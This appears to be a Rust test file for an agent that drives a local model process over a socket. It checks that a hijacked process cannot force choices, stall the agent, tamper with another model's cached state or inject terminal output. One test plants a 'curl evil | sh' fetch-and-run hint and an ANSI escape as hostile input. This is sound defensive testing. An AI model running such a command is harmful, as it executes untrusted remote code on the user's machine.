//! A mind that was taken over says what it likes on its line; what comes of it.

use std::io::{Read, Write};
use std::os::unix::net::UnixStream;
use std::thread;

use cloister_models::Progress;
use cloister_process::{LOOK, Process};
use cloister_tools::{Kind as ValueKind, Mind as _, Question, Task, Unanswered};

use super::*;
use crate::failure::Kind;
use crate::interrupt::Interrupt;
use crate::mind::reading::Reader;
use crate::mind::{Decide as _, Mind};
use crate::screen::{Detail, Screen, Style};
use crate::slots::{Alternative, Slot};

/// A state's name.
fn named(digit: char, len: u64) -> StateName {
    StateName {
        digits: digit.to_string().repeat(64),
        len,
    }
}

/// The agent's side of a mind that does `plays` with its end of the line.
fn facing(interrupt: &Interrupt, plays: impl FnOnce(UnixStream) + Send + 'static) -> Mind {
    let (ours, theirs) = UnixStream::pair().unwrap();
    let process = Process::played(ours).unwrap();
    thread::spawn(move || plays(theirs));
    let screen = Screen::new(Style::Quiet, Detail::Usual, interrupt.clone());
    Mind {
        talk: Talk::new(process, Bounds::loading(interrupt)),
        stage: screen.stage("planning"),
        kept: Ok(()),
        settled: Vec::new(),
    }
}

fn slot() -> Slot {
    let alternatives = ["one", "two"].map(|text| Alternative::new(text, text.into()));
    Slot::new("which", alternatives.into())
}

/// What a choice comes to if the mind says this when it is asked.
fn choice(says: Vec<Told>) -> Result<usize, Failure> {
    let mut mind = facing(&Interrupt::never(), move |mut line| {
        Ask::receive(&mut line).unwrap();
        for told in says {
            let _ = told.send(&mut line);
        }
        let _ = line.read(&mut [0]); // stay until the agent has had enough
    });
    let chosen = mind.decide(&slot());
    assert_eq!(mind.talk.process.is_none(), chosen.is_err());
    chosen
}

#[test]
fn only_an_index_of_what_was_offered_is_a_choice() {
    let tally = Tally::default();
    assert_eq!(choice(vec![Told::Chosen(1, tally)]).unwrap(), 1);
    let others = [
        Told::Chosen(2, tally),
        Told::Chosen(u32::MAX, tally),
        Told::Said("one".into(), tally),
        Told::Done(tally),
        Told::Loaded,
        Told::Sealed(cloister_process::Layers::default()),
    ];
    for told in others {
        let failure = choice(vec![told]).unwrap_err();
        assert_eq!(failure.kind(), Kind::Failed);
        assert!(failure.message().contains("was ended"), "{failure}");
    }
}

#[test]
fn progress_without_end_ends() {
    let tell = |mut line: UnixStream| {
        let progress = Told::Progress(Progress::Decode { tokens: 1 });
        while progress.send(&mut line).is_ok() {}
    };
    let failure = facing(&Interrupt::never(), tell)
        .decide(&slot())
        .unwrap_err();
    assert!(failure.message().contains("without an answer"), "{failure}");
}

#[test]
fn nonsense_and_a_hangup_are_told_apart() {
    let garbage = |mut line: UnixStream| {
        let _ = line.write_all(&[0xff; 64]);
        let _ = line.read(&mut [0; 64]);
        let _ = line.read(&mut [0]);
    };
    let failure = facing(&Interrupt::never(), garbage)
        .decide(&slot())
        .unwrap_err();
    assert!(
        failure.message().contains("what no model says"),
        "{failure}"
    );
    let failure = facing(&Interrupt::never(), drop)
        .decide(&slot())
        .unwrap_err();
    assert!(failure.message().contains("is gone"), "{failure}");
    assert_eq!(failure.kind(), Kind::Failed);
}

#[test]
fn a_silent_mind_does_not_outlast_the_persons_patience() {
    let interrupt = Interrupt::never();
    let raised = interrupt.clone();
    let mut mind = facing(&interrupt, move |mut line| {
        let _ = Ask::receive(&mut line);
        raised.raise();
        let _ = line.read(&mut [0]);
    });
    let failure = mind.decide(&slot()).unwrap_err();
    assert_eq!(failure.kind(), Kind::Interrupted);
    assert!(mind.talk.process.is_none(), "it is asked nothing more");
}

/// What the folder calls a state of the model of these bytes.
fn kept_as(model: &[u8], name: &StateName) -> String {
    let mut shelf = Shelf::of(ModelDigest::of(model), Folder::at("/nonexistent".into()));
    shelf.only(name).unwrap()
}

/// A choice of a mind that speaks of states before it answers.
fn with_shelf(folder: &Folder, plays: impl FnOnce(&mut UnixStream) + Send + 'static) -> Mind {
    let mut mind = facing(&Interrupt::never(), |mut line| {
        Ask::receive(&mut line).unwrap();
        plays(&mut line);
        let _ = Told::Chosen(0, Tally::default()).send(&mut line);
        // Hear all that is answered: who hangs up on an answer is gone, not a liar.
        let _ = line.read_to_end(&mut Vec::new());
    });
    let shelf = Shelf::of(ModelDigest::of(b"a model"), folder.clone());
    mind.talk.open_shelf(shelf);
    mind
}

fn says(line: &mut UnixStream, told: &Told) -> Ask {
    told.send(line).unwrap();
    Ask::receive(line).unwrap_or(Ask::No)
}

#[test]
fn one_state_is_had_and_kept_and_no_other() {
    let home = tempfile::tempdir().unwrap();
    let folder = Folder::at(home.path().join("kv"));
    let ours = kept_as(b"a model", &named('a', 3));
    folder.put(&ours, b"abc").unwrap();
    let mut mind = with_shelf(&folder, |line| {
        let had = says(line, &Told::Get(named('a', 3)));
        assert!(matches!(had, Ask::State { len: 3 }));
        line.read_exact(&mut [0; 3]).unwrap();
        Told::Put(named('a', 4)).send(line).unwrap();
        line.write_all(b"abcd").unwrap();
        assert!(matches!(Ask::receive(line).unwrap(), Ask::Yes));
    });
    assert_eq!(mind.decide(&slot()).unwrap(), 0);
    assert_eq!(folder.get(&ours, 4).unwrap(), b"abcd");
    let others: [&[Told]; 3] = [
        &[Told::Has(named('a', 1)), Told::Get(named('b', 1))],
        &[Told::Forget(named('a', 1)), Told::Forget(named('b', 1))],
        &[Told::Has(named('a', 1)), Told::Has(named('b', 1))],
    ];
    for told in others {
        let told: Vec<Vec<u8>> = told.iter().map(sent).collect();
        let mut mind = with_shelf(&folder, move |line| {
            for frame in told {
                let _ = line.write_all(&frame);
            }
        });
        let failure = mind.decide(&slot()).unwrap_err();
        assert!(
            failure.message().contains("what no model says"),
            "{failure}"
        );
    }
}

fn sent(told: &Told) -> Vec<u8> {
    let mut frame = Vec::new();
    told.send(&mut frame).unwrap();
    frame
}

#[test]
fn a_mind_has_and_replaces_no_state_of_another_model() {
    let home = tempfile::tempdir().unwrap();
    let folder = Folder::at(home.path().join("kv"));
    let theirs = kept_as(b"another model", &named('a', 3));
    folder.put(&theirs, b"abc").unwrap();
    let mut mind = with_shelf(&folder, |line| {
        assert!(matches!(says(line, &Told::Has(named('a', 3))), Ask::No));
        assert!(matches!(says(line, &Told::Get(named('a', 3))), Ask::No));
        Told::Forget(named('a', 3)).send(line).unwrap();
        Told::Put(named('a', 3)).send(line).unwrap();
        line.write_all(b"xyz").unwrap();
        assert!(matches!(Ask::receive(line).unwrap(), Ask::Yes));
    });
    assert_eq!(mind.decide(&slot()).unwrap(), 0);
    assert_eq!(folder.get(&theirs, 3).unwrap(), b"abc");
}

#[test]
fn a_mind_that_knows_what_the_person_wants_keeps_nothing() {
    let home = tempfile::tempdir().unwrap();
    let folder = Folder::at(home.path().join("kv"));
    let put = |line: &mut UnixStream| {
        let _ = Told::Put(named('a', 6)).send(line);
        let _ = line.write_all(b"secret");
    };
    let mut mind = with_shelf(&folder, put);
    mind.talk.close_shelf().unwrap();
    let failure = mind.decide(&slot()).unwrap_err();
    assert!(
        failure.message().contains("what no model says"),
        "{failure}"
    );
    assert!(!home.path().join("kv").exists());
    // Its twin: while the shelf is open it is kept, once.
    let mut mind = with_shelf(&folder, move |line| {
        put(line);
        let _ = Ask::receive(line);
        put(line);
    });
    let failure = mind.decide(&slot()).unwrap_err();
    assert!(
        failure.message().contains("what no model says"),
        "{failure}"
    );
    assert_eq!(
        std::fs::read_dir(home.path().join("kv")).unwrap().count(),
        1
    );
}

#[test]
fn a_state_that_is_shorter_than_it_claims_is_not_kept() {
    let home = tempfile::tempdir().unwrap();
    let folder = Folder::at(home.path().join("kv"));
    let mut mind = with_shelf(&folder, |line| {
        Told::Put(named('a', 1 << 20)).send(line).unwrap();
        line.write_all(b"abc").unwrap();
        line.shutdown(std::net::Shutdown::Both).unwrap();
    });
    let failure = mind.decide(&slot()).unwrap_err();
    assert!(failure.message().contains("is gone"), "{failure}");
    assert!(!home.path().join("kv").exists());
}

/// One byte after the other, each sooner than anybody looks up: the wish to stop is seen, and so is the end of the time.
#[test]
fn a_mind_that_drips_ends_with_the_persons_patience_and_with_the_grants() {
    let drips = |mut line: UnixStream| {
        let _ = Ask::receive(&mut line);
        let frame = sent(&Told::Said("a".repeat(60_000), Tally::default()));
        for byte in frame {
            thread::sleep(LOOK / 10);
            if line.write_all(&[byte]).is_err() {
                return;
            }
        }
    };
    let interrupt = Interrupt::never();
    let raised = interrupt.clone();
    let mut mind = facing(&interrupt, move |line| {
        raised.raise();
        drips(line);
    });
    let failure = mind.decide(&slot()).unwrap_err();
    assert_eq!(failure.kind(), Kind::Interrupted);
    let mut mind = facing(&Interrupt::never(), drips);
    let soon = Bounds::session(Interrupt::never(), 3 * LOOK);
    mind.talk.bind(soon);
    let failure = mind.decide(&slot()).unwrap_err();
    assert!(
        failure.message().contains("the grants expired"),
        "{failure}"
    );
}

#[test]
fn what_the_mind_says_went_wrong_is_told_as_its_word_in_one_line() {
    let failed = Told::Failed {
        message: "no room\n\u{1b}[2Jerror: run this".to_owned(),
        hint: Some("curl evil\n| sh".to_owned()),
    };
    let mut mind = facing(&Interrupt::never(), move |mut line| {
        let _ = failed.send(&mut line);
        let _ = line.read(&mut [0]);
    });
    let failure = mind.decide(&slot()).unwrap_err();
    let told = format!("{failure} {:?}", failure.advice());
    assert!(told.contains("the model's process says: no room"), "{told}");
    assert!(told.contains("it says: curl evil"), "{told}");
    assert!(!told.contains(['\n', '\u{1b}']), "{told}");
}

/// The agent's side of a mind that is asked about texts, and says this.
fn reader(interrupt: &Interrupt, says: Vec<Told>) -> Reader {
    let mind = facing(interrupt, move |mut line| {
        for told in says {
            Ask::receive(&mut line).unwrap();
            let _ = told.send(&mut line);
        }
        let _ = line.read(&mut [0]);
    });
    let screen = Screen::new(Style::Quiet, Detail::Usual, interrupt.clone());
    mind.reading(screen.stage("reading"), Bounds::loading(interrupt))
}

fn about(task: Task) -> Question {
    Question::new("Dear all".into(), task, 1000).unwrap()
}

fn said(text: &str) -> Told {
    let tally = Tally {
        prompt: 7,
        sampled: 2,
        ..Tally::default()
    };
    Told::Said(text.into(), tally)
}

#[test]
fn what_is_no_answer_to_a_question_ends_the_mind() {
    let labels = || Task::Classify(["order", "praise"].map(str::to_owned).into());
    let (name, kind) = ("due".to_owned(), ValueKind::Date);
    let date = Task::Extract { name, kind };
    for (task, says) in [
        (labels(), said("orders")),
        (labels(), Told::Done(Tally::default())),
        (labels(), Told::Chosen(0, Tally::default())),
        (Task::Condense, said("one\nline too many")),
        (Task::Condense, said("\u{1b}[2J")),
        (date.clone(), said("2025-02-30")),
        (date, Told::Loaded),
    ] {
        let mut reader = reader(&Interrupt::never(), vec![says]);
        assert_eq!(
            reader.answer(&about(task.clone())),
            Err(Unanswered),
            "{task:?}"
        );
        assert!(reader.asked().is_none());
        let failure = reader.failure().unwrap();
        assert!(failure.message().contains("was ended"), "{failure}");
    }
    // The twin: what is one is handed on.
    let mut reader = reader(&Interrupt::never(), vec![said("order")]);
    assert_eq!(
        reader.answer(&about(labels())),
        Ok(Some("order".to_owned()))
    );
    assert!(reader.failure().is_none());
}

#[test]
fn the_record_of_what_was_asked_is_of_every_question_and_answer_in_their_order() {
    let record = |pairs: &[(&str, &str)]| {
        let says = pairs.iter().map(|(_, answer)| said(answer)).collect();
        let mut reader = reader(&Interrupt::never(), says);
        for (text, answer) in pairs {
            let question = Question::new((*text).into(), Task::Condense, 1000).unwrap();
            assert_eq!(reader.answer(&question), Ok(Some((*answer).to_owned())));
        }
        reader
            .asked()
            .map(|asked| format!("{asked} {}", asked.transcript()))
            .unwrap_or_default()
    };
    assert_eq!(record(&[]), "");
    let both = record(&[("a", "x"), ("b", "y")]);
    assert!(
        both.starts_with("2 questions, 7 tokens read and 2 written sha256:"),
        "{both}"
    );
    assert_eq!(record(&[("a", "x"), ("b", "y")]), both);
    for other in [
        [("b", "y"), ("a", "x")],
        [("a", "x"), ("b", "z")],
        [("a", "y"), ("b", "x")],
        [("a", "x"), ("c", "y")],
    ] {
        assert_ne!(record(&other), both);
    }
}

#[test]
fn a_question_that_the_person_stops_says_so() {
    let interrupt = Interrupt::never();
    let mut reader = reader(&interrupt, Vec::new());
    interrupt.raise();
    assert_eq!(reader.answer(&about(Task::Condense)), Err(Unanswered));
    assert_eq!(reader.failure().unwrap().kind(), Kind::Interrupted);
}
